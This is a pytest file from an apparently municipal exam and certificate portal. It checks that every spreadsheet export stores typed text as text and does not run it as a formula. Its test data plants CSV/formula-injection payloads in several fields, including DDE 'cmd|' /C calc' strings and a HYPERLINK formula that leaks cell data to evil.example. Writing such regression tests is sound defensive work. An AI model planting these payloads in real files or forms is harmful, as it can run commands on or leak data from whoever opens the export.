"""Typed text never runs as a formula in any export the portal has (issue 13: a question stem ``=HYPERLINK(…)``
came out live in the item-analysis export; an agency short name ``=1+2`` came out raw in the shortfall CSV).

One hostile value of each kind is planted where people type it — an agency's short name, an officer's name, an
exam's title, a question's stem, a hold's legal basis — and every export is downloaded: in XLSX every cell holding
it is text (no formula), in CSV it is prefixed with ``'``. The list of exports is taken from the app's routes, so
a new export without a check here fails this test.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import sqlalchemy as sa

from certificates import lifecycle
from exams.bank.models import QuestionVersion
from portal import clock
from portal.extensions import db
from tests.certificates.conftest import key_dir  # noqa: F401 - the signing keys lifecycle.issue needs
from tests.exams.results import helpers as results
from tests.factories import SYSTEM

HOSTILE = {
    "agency": "=1+2",
    "officer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "exam": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "stem": "-2+3+cmd|' /C calc'!A0",
    "basis": "+1+2（依据）",
}
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def plant(world):
    """The hostile values in place: an officer short of training with an exam result, an item analysis, a
    certificate due for review with a hold."""
    world.dept.short_name = HOSTILE["agency"]
    world.officer.name = HOSTILE["officer"]
    questions = results.make_questions(world.city, 3)
    db.session.execute(sa.update(QuestionVersion).where(QuestionVersion.question_id == questions[0].id)
                       .values(stem=HOSTILE["stem"]))
    exam = results.make_exam(world.city, title=HOSTILE["exam"])
    results.sit(exam, world.officer, [1, 0, 1], questions)
    results.sit(exam, world.officer2, [0, 1, 1], questions)
    cert = lifecycle.issue(world.officer, "enforcement", ["城市管理"], "环翠区全域", actor=SYSTEM,
                           now=clock.now() - dt.timedelta(days=100))
    cert.first_issued_on = clock.today().replace(year=clock.today().year - 2) + dt.timedelta(days=10)
    lifecycle.place_hold(cert, "other", actor=SYSTEM, now=clock.now(), legal_basis=HOSTILE["basis"])
    db.session.commit()
    return exam


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet (openpyxl's view), after checking that no sheet's XML holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def check_xlsx(data: bytes, expected: set[str]) -> None:
    cells = xlsx_cells(data)
    found = {cell.value for cell in cells if cell.value in HOSTILE.values()}
    assert expected <= found, f"missing from the file: {expected - found}"
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(LEADS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def check_csv(data: bytes, expected: set[str]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(LEADS)]
    found = {field[1:] for field in fields if field.startswith("'")}
    assert expected <= found, f"missing from the file: {expected - found}"


def test_every_export_writes_typed_text_as_text(app, client, auth, world, key_dir, frozen):  # noqa: F811
    exam = plant(world)
    checked = set()

    auth.login("hr")
    for fmt, check in (("xlsx", check_xlsx), ("csv", check_csv)):
        response = client.post("/training/shortfall/export", data={"format": fmt})
        assert response.status_code == 200, response.status_code
        check(response.data, {HOSTILE["agency"], HOSTILE["officer"]})
    checked.add("/training/shortfall/export")
    auth.logout()

    auth.login("legal_city")
    response = client.post("/exams/results/export")
    assert response.status_code == 200
    check_xlsx(response.data, {HOSTILE["exam"], HOSTILE["officer"]})
    checked.add("/exams/results/export")

    frozen(results.CLOSES + dt.timedelta(days=1))  # the analysis is shown once the window has closed
    response = client.post(f"/exams/{exam.id}/analysis/export")
    assert response.status_code == 200
    check_xlsx(response.data, {HOSTILE["stem"]})
    checked.add("/exams/<int:exam_id>/analysis/export")

    response = client.get("/compliance/export.xlsx")
    assert response.status_code == 200
    check_xlsx(response.data, {HOSTILE["officer"], HOSTILE["agency"], HOSTILE["basis"]})
    checked.add("/compliance/export.xlsx")

    exports = {rule.rule for rule in app.url_map.iter_rules()
               if rule.rule.endswith(("/export", "/export.xlsx", "/export.csv"))}
    assert exports == checked, f"exports this test does not check: {exports - checked}"


def test_the_csv_writer_neutralises_every_lead():
    from portal import exports

    data = exports.csv_file(["列"], [[lead + "1"] for lead in LEADS] + [[1.0], [2.5], ["普通文本"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["列"], *[["'" + lead + "1"] for lead in LEADS], ["1"], ["2.5"], ["普通文本"]]
